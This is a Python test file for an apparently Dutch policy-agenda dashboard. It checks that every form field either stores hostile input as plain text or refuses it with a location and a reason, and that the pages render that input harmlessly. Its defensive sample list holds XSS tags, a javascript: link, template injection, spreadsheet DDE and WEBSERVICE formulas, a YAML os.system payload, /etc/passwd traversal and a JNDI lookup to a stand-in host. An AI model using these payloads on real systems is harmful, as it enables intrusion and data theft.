"""Texts that mean harm in every field of every form: a text and no more, or refused with where and why; the file stays whole."""

import copy
import re
import shutil
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from support.pages import visit
from support.shipped import AGENDA

from dashboard import actor, agendas, pages
from dashboard.editing.checking import check
from dashboard.editing.places import Form
from dashboard.editing.reading import read
from dashboard.editing.shapes import Shape, Sort, fields_of, source_shape
from etl.door.actors import Actor, Role
from etl.door.changes import Adopted, Change, DropDraft, Publish
from etl.door.desk import desk_of
from etl.door.door import Written, write
from etl.door.drafts import new_draft
from etl.door.fields import with_field
from etl.door.files import version_of
from etl.door.merging import Clash
from etl.door.refusals import Refused
from etl.door.things import Kind, Thing, find
from etl.installation import Place
from indicators.agenda.load import load_agenda
from indicators.agenda.problems import AgendaError
from indicators.agenda.strict_yaml import read_marked

NOW = datetime(2026, 11, 26, 10, 12, tzinfo=UTC)
EDITOR = Actor(subject="een", name="Beleid", role=Role.EDITOR, until=NOW + timedelta(hours=4))
COUNCIL = {"mishandeling": Adopted(by=("gemeenteraad",), on="2026-11-20", decision="RB-1")}
THINGS = {
    Kind.AGENDA: "",
    Kind.PARTNER: "politie",
    Kind.SOURCE: "verkiezingen",
    Kind.AMBITION: "gezondheid",
    Kind.INDICATOR: "mishandeling",
    Kind.INTERVENTION: "buurtpreventie",
}
ODD = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "![x](https://kwaad.example/x.png) [l](javascript:alert(1)) :red[x] $x^2$ `x`",
    "jinja": "{{ 7*7 }}{% import os %}",
    "formula": '=WEBSERVICE("https://kwaad.example/")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "yaml": "&a *a !!python/object/apply:os.system ['id'] # x",
    "yaml lines": "x\nbronnen: {}\n- y: [",
    "document": "--- !x\n...\n%YAML 1.2",
    "merge": "<<: *x",
    "path": "../../../../etc/passwd",
    "nul": "a\x00b",
    "escape": "\x1b]0;x\x07",
    "turned": "Overgewicht\u202egnp.exe",
    "hidden": "a\u200bb\ufeffc\U000e0041",
    "half a letter": "a\ud800b",
    "line of another kind": "a\u2028b\u2029c\x85d",
    "megabyte": "x" * 1_000_000,
    "no end": "9" * 400,
    "not a number": "nan",
    "stacked": "Z\u0351\u036b\u0343\u036a" * 300,
    "template of a path": "%s%n${jndi:ldap://kwaad.example}",
}
"""Each for what reads it: browsers, Streamlit, templates, spreadsheets, YAML, disks, terminals and eyes."""


def leaves(shapes: tuple[Shape, ...], form: Form, place: tuple[str, ...] = ()) -> list[tuple[tuple[str, ...], Shape]]:
    """Every field with one value; of a list one item that is to come."""
    found: list[tuple[tuple[str, ...], Shape]] = []
    for shape in shapes:
        here = (*place, shape.key)
        if shape.sort is Sort.GROUP:
            found += leaves(shape.fields, form, here)
        elif shape.sort is Sort.EITHER:
            found += leaves(shape.variant_of(form.shown(here)).fields, form, here)
        elif shape.sort is Sort.ITEMS:
            found += leaves((shape.variants[0] if shape.variants else shape).fields, form, (*here, "+1"))
        else:
            found.append((here, shape))
    return found


def shapes_of(kind: Kind) -> tuple[Shape, ...]:
    return source_shape().variants[1].fields if kind is Kind.SOURCE else fields_of(kind)


FIELDS = [
    (kind, place, shape)
    for kind in THINGS
    for place, shape in leaves(shapes_of(kind), Form(thing=Thing(kind), stored={}, draft=None))
]
CASES = [
    pytest.param(kind, place, shape, odd, id=f"{kind}/{'/'.join(place)}: {odd}") for kind, place, shape in FIELDS for odd in ODD
]


@pytest.fixture(scope="module")
def copied(tmp_path_factory: pytest.TempPathFactory) -> Place:
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(AGENDA.parent, folder / "config")
    return Place(agenda=folder / "config" / "agenda.yaml", data=folder / "data")


@pytest.fixture
def kept(copied: Place) -> Iterator[Place]:
    """As it came, for each case: one that goes wrong is no reason for those after it."""
    yield copied
    copied.agenda.write_bytes(AGENDA.read_bytes())
    for draft in (copied.agenda.parent / "concepten").glob("*.json"):
        draft.unlink()


def test_every_form_is_looked_at() -> None:
    assert len(FIELDS) > 100
    assert {kind for kind, _, _ in FIELDS} == set(Kind)


@pytest.mark.sampled(6)
@pytest.mark.parametrize(("kind", "place", "shape", "odd"), CASES)
def test_it_is_a_text_or_refused_with_where_and_why(
    kept: Place, kind: Kind, place: tuple[str, ...], shape: Shape, odd: str
) -> None:
    before, thing = kept.agenda.read_bytes(), Thing(kind, THINGS[kind])
    value = read(shape, ODD[odd]).value
    form = Form(thing=thing, stored=find(shipped(), thing), draft=None)
    draft, no = asked(kept, form.saving(place, value))
    if draft is None:
        assert place[0] in no, "it says where"
        assert_nothing_came(kept, before)
        return
    assert kept.agenda.read_bytes() == before, "a draft changes nothing that readers see"
    done, no = asked(kept, Publish(drafts=(draft.draft,), reason="Zomaar", adopted=COUNCIL if place[0] == "norm" else {}))
    if done is None:
        assert re.fullmatch(r"(?s).+[.!?]", no), "it says why"
        assert kept.agenda.read_bytes() == before
        asked(kept, DropDraft(draft=draft.draft))
    else:
        check_published(kept, thing, place, value)
        kept.agenda.write_bytes(before)
    assert_nothing_came(kept, before)


OF_THE_FILE = re.compile(r"voeg '|\b(true|false)\b|punt voor|aanhalingsteken|\b[a-z]+_[a-z_]+\b|\b\d{4}-\d{2}\b|'[a-z]+: ")
"""What only who writes the file knows: its keys, its numbers and its days."""


def told_of_fields(kind: Kind) -> set[str]:
    """All that a form says is wrong when one of its fields is emptied or holds what does not fit."""
    desk, thing = desk_of(Place(agenda=AGENDA, data=AGENDA.parent)), Thing(kind, THINGS[kind])
    stored, told = find(desk.data, thing), set[str]()
    for place, shape in [(place, shape) for each, place, shape in FIELDS if each is kind]:
        for typed in (None, "onzin", "9,99", "-1", "2099"):
            change = Form(thing=thing, stored=stored, draft=None).saving(place, typed and read(shape, typed).value)
            draft = with_field(new_draft(thing, "een", "Beleid", desk.version, NOW), stored, change, NOW)
            assert not isinstance(draft, Clash)
            found = check(replace(desk, drafts=(draft,)), Form(thing=thing, stored=stored, draft=draft), str(AGENDA))
            told |= {*found.elsewhere, *(text for texts in found.at.values() for text in texts)}
    return told


@pytest.mark.sampled(1)
@pytest.mark.parametrize("kind", THINGS)
def test_what_is_wrong_is_told_in_the_words_of_the_form(kind: Kind) -> None:
    told = told_of_fields(kind)
    assert told, "this test sees nothing"
    own = {each: re.sub(r"‘[^’]*’|is '[^']*'", "", each) for each in told}  # without labels, and what was typed
    assert [each for each in told if OF_THE_FILE.search(own[each])] == []


def asked(kept: Place, change: Change) -> tuple[Written | None, str]:
    """What was done, or the sentences that say why not; every mistake has its line and what to do."""
    try:
        return write(EDITOR, change, version_of(kept.agenda.read_bytes()), place=kept, now=NOW), ""
    except AgendaError as error:
        return None, "\n".join(str(each) for each in error.problems if each.line > 0 and each.remedy)
    except Refused as refused:
        return None, str(refused)


def check_published(kept: Place, thing: Thing, place: tuple[str, ...], value: object) -> None:
    """What was typed stands there, as a text, and nothing else changed; who reads the file otherwise reads the same."""
    load_agenda(kept.agenda)
    after = read_marked(kept.agenda.read_text(encoding="utf-8")).data
    here = find(after, thing)
    for step in place:
        here = here[-1] if step == "+1" else here
        here = here if step == "+1" else here[step]
    assert here == value
    before = copy.deepcopy(shipped())
    for data in (before, after):
        find(data, thing).pop(place[0], None)
    assert after == before, "nothing else says anything else"


@cache
def shipped() -> Any:
    """The data of the file that every case begins with; nobody changes it."""
    return read_marked(AGENDA.read_text(encoding="utf-8")).data


def assert_nothing_came(kept: Place, before: bytes) -> None:
    assert kept.agenda.read_bytes() == before
    assert {each.name for each in kept.agenda.parent.iterdir()} <= {*(each.name for each in AGENDA.parent.iterdir()), "concepten"}
    assert {each.name for each in (kept.agenda.parent / "concepten").iterdir()} <= {"lock"}
    assert not list(Path(kept.agenda.parent.parent).glob("*.exe"))


PAYLOAD = "<b onclick=x>v</b> ![x](https://kwaad.example/x.png) [l](javascript:x) $x^2$ {{7*7}}"
PARAMETERS = {
    Kind.PARTNER: "partner",
    Kind.SOURCE: "bron",
    Kind.AMBITION: "ambitie",
    Kind.INDICATOR: "indicator",
    Kind.INTERVENTION: "interventie",
}


@pytest.mark.attack
@pytest.mark.parametrize("kind", THINGS)
def test_pages_show_it_as_a_text(agenda: Path, monkeypatch: pytest.MonkeyPatch, kind: Kind) -> None:
    here, thing = agendas.here(), Thing(kind, THINGS[kind])
    texts = [(place, shape) for each, place, shape in FIELDS if each is kind and shape.sort is Sort.TEXT and not shape.refers]
    until = datetime.now(UTC) + timedelta(hours=4)
    who = Actor(subject="een", name="Beleid", role=Role.ADMINISTRATOR, until=until)
    for place, _ in texts:
        form = Form(thing=thing, stored=find(desk_of(here).data, thing), draft=desk_of(here).draft_of(thing, who.subject))
        write(who, form.saving(place, PAYLOAD), desk_of(here).version, place=here)
    (draft,) = desk_of(here).drafts
    assert len(draft.fields) >= 1
    monkeypatch.setattr(actor, "asking", lambda: who)
    asked = {PARAMETERS[kind]: thing.id} if kind in PARAMETERS else {}
    for app in (visit(pages.EDIT.file, **asked), visit(pages.REVIEW.file, concept=draft.id), visit(pages.EDITING.file)):
        assert not app.exception
        for element in app.get("html"):
            assert "<b onclick" not in element.proto.body
        labels = [each.label for each in (*app.button, *app.text_input, *app.text_area, *app.selectbox, *app.multiselect)]
        labels += [each.label for each in app.expander] + [each.value for each in (*app.title, *app.header, *app.markdown)]
        labels += [each.proto.label for each in app.get("page_link")]
        assert [each for each in labels if re.search(r"(?<!\\)\[l|(?<!\\)!\\?\[|(?<!\\)\$|(?<!\\)<b", each)] == []
